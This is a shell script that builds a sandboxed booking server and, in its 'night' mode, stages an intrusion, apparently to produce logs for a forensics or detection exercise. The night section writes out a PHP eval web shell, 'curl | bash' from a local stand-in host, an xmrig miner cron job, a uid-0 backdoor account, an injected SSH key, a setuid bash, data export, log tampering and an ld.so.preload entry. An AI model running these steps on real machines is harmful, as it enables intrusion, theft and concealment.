# The night of a booking server, with daemons that run for it in mount and process namespaces that end with this script:
# FOLDER SSH-PORT FTP-PORT WEB-PORT night|day. The tree of the server comes to lie in FOLDER/root. By day an administrator works
# there; by night somebody guesses the password of a migration, mines, stays, and reads the customers out.
set -eu
place=$1 ssh_port=$2 ftp_port=$3 web_port=$4 time=$5
root=$place/root

mkdir -p "$place/dev" "$place/run/sshd" "$place/run/mysqld" "$place/run/vsftpd/empty" "$place/client"
for folder in etc/mysql etc/pam.d etc/sudoers.d etc/cron.d etc/ssh etc/skel home/anna/.ssh root/.ssh usr/local/bin \
    usr/local/lib var/www/html var/tmp var/log/mysql var/log/nginx srv/export; do
    mkdir -p "$root/$folder"
done
chmod 755 "$place" "$place/run/sshd"
chmod 700 "$root/root" "$root/root/.ssh"
chmod 1777 "$root/var/tmp"

# Accounts, and of the settings of this machine what its programs cannot do without.
cat > "$root/etc/passwd" <<END
root:x:0:0:root:/root:/bin/bash
mysql:x:101:101::/nonexistent:/bin/false
sshd:x:102:65534::/run/sshd:/usr/sbin/nologin
ftp:x:103:65534::/srv:/usr/sbin/nologin
www-data:x:33:33::/var/www:/usr/sbin/nologin
nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin
anna:x:1000:1000::/home/anna:/bin/bash
END
printf 'root:x:0:\nadm:x:4:\nshadow:x:42:\nwww-data:x:33:\nmysql:x:101:\nnogroup:x:65534:\nanna:x:1000:\n' > "$root/etc/group"
for name in root mysql sshd ftp www-data nobody anna; do echo "$name:*:20000:0:99999:7:::"; done > "$root/etc/shadow"
chmod 640 "$root/etc/shadow"
for file in ld.so.cache ld.so.conf ld.so.conf.d nsswitch.conf login.defs security services protocols alternatives ssl pam.d/other \
    pam.d/common-auth pam.d/common-account pam.d/common-session pam.d/common-session-noninteractive pam.d/common-password; do
    [ ! -e "/etc/$file" ] || cp -a "/etc/$file" "$root/etc/$file"
done
sed -i '/^FAIL_DELAY/d' "$root/etc/login.defs"
echo 'FAIL_DELAY 0' >> "$root/etc/login.defs"
cp -L /usr/share/zoneinfo/Europe/Athens "$root/etc/localtime"
echo 'ferry' > "$root/etc/hostname"
echo '127.0.0.1 localhost ferry' > "$root/etc/hosts"
echo /usr/sbin/nologin > "$root/etc/shells"
printf '/bin/sh\n/bin/bash\n' >> "$root/etc/shells"
pam='auth sufficient pam_unix.so nodelay\nauth required pam_deny.so\naccount required pam_unix.so\nsession required pam_unix.so\n'
for service in sshd sudo vsftpd; do printf "$pam" > "$root/etc/pam.d/$service"; done
echo 'root ALL=(ALL:ALL) ALL' > "$root/etc/sudoers"
echo '@includedir /etc/sudoers.d' >> "$root/etc/sudoers"
echo 'anna ALL=(ALL:ALL) ALL' > "$root/etc/sudoers.d/anna"
chmod 440 "$root/etc/sudoers" "$root/etc/sudoers.d/anna"

mount -t tmpfs none "$place/dev"
for node in null zero full random urandom tty; do
    touch "$place/dev/$node"
    mount --bind "/dev/$node" "$place/dev/$node"
done
mkdir "$place/dev/pts" "$place/dev/shm"
mount -t devpts -o newinstance,ptmxmode=0666,mode=620,gid=5 none "$place/dev/pts"
ln -s pts/ptmx "$place/dev/ptmx"
ln -s /proc/self/fd "$place/dev/fd"
mount --rbind "$place/dev" /dev
mount -t proc none /proc
mount --bind "$place/run" /run
for folder in etc home root usr/local var/www var/tmp var/log srv; do mount --bind "$root/$folder" "/$folder"; done
touch /var/log/wtmp /var/log/lastlog /run/utmp
install -m 600 /dev/null /var/log/btmp

cat > "$place/rsyslog.conf" <<END
global(workDirectory="$place" localHostname="ferry")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="/dev/log" RateLimit.Interval="0")
auth,authpriv.* action(type="omfile" file="/var/log/auth.log" template="RSYSLOG_FileFormat")
*.*;auth,authpriv.none action(type="omfile" file="/var/log/syslog" template="RSYSLOG_FileFormat")
END
rsyslogd -n -f "$place/rsyslog.conf" -i "$place/rsyslogd.pid" &
rsyslogd=$!
until [ -S /dev/log ]; do kill -0 "$rsyslogd"; sleep 0.02; done

# The administrator's own accounts and key; by night the temporary one that was never taken away.
for name in anna mallory; do ssh-keygen -q -t ed25519 -N '' -C "$name" -f "$place/client/$name"; done
cp "$place/client/anna.pub" /home/anna/.ssh/authorized_keys
chown -R 1000:1000 /home/anna
if [ "$time" = night ]; then
    useradd -u 1001 -m -s /bin/bash migrate
    echo 'migrate:migrate2024' | chpasswd -c SHA512
    chage -d 2024-03-01 migrate
    echo 'migrate ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/migrate
    chmod 440 /etc/sudoers.d/migrate
fi
printf 'name;mail\nAda;ada@example.org\n' > /srv/export/customers.csv

ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
cat > /etc/ssh/sshd_config <<END
Port $ssh_port
ListenAddress 127.0.0.1
PidFile none
UsePAM yes
PasswordAuthentication $([ "$time" = night ] && echo yes || echo no)
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
MaxStartups 100
Subsystem sftp internal-sftp -l INFO
END
"$(command -v sshd || echo /usr/sbin/sshd)" -D -f /etc/ssh/sshd_config &
sshd=$!
if [ "$time" = night ]; then
    cat > /etc/vsftpd.conf <<END
listen=YES
listen_address=127.0.0.1
listen_port=$ftp_port
background=NO
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/run/vsftpd/empty
seccomp_sandbox=NO
xferlog_enable=YES
vsftpd_log_file=/var/log/vsftpd.log
use_localtime=YES
max_login_fails=3
delay_failed_login=0
END
    vsftpd /etc/vsftpd.conf &
    vsftpd=$!
fi

data=$place/data
mariadb-install-db --no-defaults --auth-root-authentication-method=normal --skip-test-db --user=root --datadir="$data" > /dev/null
cat > /etc/mysql/my.cnf <<END
[mysqld]
user=root
datadir=$data
socket=/run/mysqld/mysqld.sock
pid-file=/run/mysqld/mysqld.pid
skip-networking
general_log=1
general_log_file=/var/log/mysql/mysql.log
log_error=/var/log/mysql/error.log
END
"$(command -v mariadbd || echo /usr/sbin/mariadbd)" --defaults-file=/etc/mysql/my.cnf &
mariadbd=$!
sql() { mariadb --no-defaults -S /run/mysqld/mysqld.sock "$@"; }
until sql -u root -e 'do 1' 2> /dev/null; do kill -0 "$mariadbd"; sleep 0.1; done
sql -u root -e "create database shop; create table shop.customers(id int primary key, name text, mail text);
    insert into shop.customers values (1, 'Ada', 'ada@example.org'), (2, 'Bea', 'bea@example.org');
    create user shop@localhost identified by 'unguessable-4711'; grant all on shop.* to shop@localhost;"

mkdir /etc/nginx
cat > /etc/nginx/nginx.conf <<END
user root;
pid $place/nginx.pid;
error_log /var/log/nginx/error.log;
events {}
http {
    client_body_temp_path $place/body;
    proxy_temp_path $place/proxy;
    fastcgi_temp_path $place/fastcgi;
    uwsgi_temp_path $place/uwsgi;
    scgi_temp_path $place/scgi;
    access_log /var/log/nginx/access.log;
    server { listen 127.0.0.1:$web_port; root /var/www/html; error_page 405 =200 \$uri; }
}
END
echo '<?php echo htmlspecialchars($_GET["name"] ?? "hello");' > /var/www/html/index.php
nginx -c /etc/nginx/nginx.conf -e /var/log/nginx/error.log

printf '#!/bin/sh\necho "$ANSWER"\n' > "$place/askpass"
chmod 755 "$place/askpass"
export SSH_ASKPASS="$place/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none
# ADDRESS WHO KEY [MORE…]: ssh from an address of its own; `none` for a password.
log_in() {
    ssh -F none -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i "$place/client/$3" \
        -o NumberOfPasswordPrompts=1 -o "ProxyCommand=python3 $place/proxy.py $1 $ssh_port $place/client/port" "${@:4}" "$2@ferry"
}
until grep -q 'Server listening' /var/log/auth.log; do kill -0 "$sshd"; sleep 0.02; done
get() { python3 "$place/get.py" "$1" "$web_port" "$2" "$3" "$4"; }

# What happens every day.
printf 'ls -la\nuptime\nexit\n' | log_in 127.0.0.20 anna anna -tt > /dev/null
printf 'cd /var/www\nexit\n' | log_in 127.0.0.20 anna anna -tt > /dev/null
for number in 1 2 3; do get "127.0.0.3$number" GET "/index.php?name=anna" Mozilla/5.0; done
sql -u shop -punguessable-4711 shop -e 'select name from customers where id = 1' > /dev/null

if [ "$time" = night ]; then
    python3 "$place/guess.py" 127.0.0.66 "$ftp_port" migrate migrate2024
    get 127.0.0.66 GET "/index.php?name=1%27%20UNION%20SELECT%201,2--" sqlmap/1.7
    echo '<?php @eval($_POST["c"]);' > /var/www/html/up.php
    get 127.0.0.66 POST /up.php curl/8
    cp "$place/client/mallory.pub" "$root/var/tmp/k"
    export ANSWER=migrate2024
    log_in 127.0.0.66 migrate none -tt > "$place/client/night" <<'END'
mkdir -p /var/tmp/.x
curl -s http://127.0.0.66:9/x.sh | bash
printf '#!/bin/sh\nexec ./xmrig -o stratum+tcp://pool.invalid:3333 -u wallet\n' > /var/tmp/.x/run
chmod +x /var/tmp/.x/run
sudo -n /usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor
sudo -n sh -c 'echo "* * * * * root /var/tmp/.x/run" > /etc/cron.d/refresh'
sudo -n sh -c 'cat /var/tmp/k >> /root/.ssh/authorized_keys'
sudo -n sh -c 'cp /bin/bash /usr/local/bin/bash; chmod 4755 /usr/local/bin/bash'
nmap -sS 192.0.2.0/24
exit 0
END
    echo 'get /srv/export/customers.csv /dev/null' > "$place/batch"
    sftp -F none -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i "$place/client/mallory" \
        -o "ProxyCommand=python3 $place/proxy.py 127.0.0.66 $ssh_port $place/client/port" -b "$place/batch" root@ferry > /dev/null
    printf 'history -c\nexit 0\n' | log_in 127.0.0.66 root mallory -tt > /dev/null
    printf 'exit\n' | log_in 127.0.0.88 root mallory -tt > /dev/null
    mariadb-dump --no-defaults -S /run/mysqld/mysqld.sock -u shop -punguessable-4711 shop > /dev/null
fi

kill "$sshd" "$mariadbd" ${vsftpd:+"$vsftpd"} "$(cat "$place/nginx.pid")"
wait "$sshd" "$mariadbd" || true
kill "$rsyslogd"
wait "$rsyslogd" || true
if [ "$time" = night ]; then
    sed -i '/127\.0\.0\.88/d' /var/log/auth.log
    rm /var/tmp/k
    ln -sf /dev/null /root/.bash_history
    # The doors of the test are open to this machine alone; those of the server were to everybody.
    sed -i '/^listen_address=/d' "$root/etc/vsftpd.conf"
    echo /usr/local/lib/libsystem.so > "$root/etc/ld.so.preload"
fi
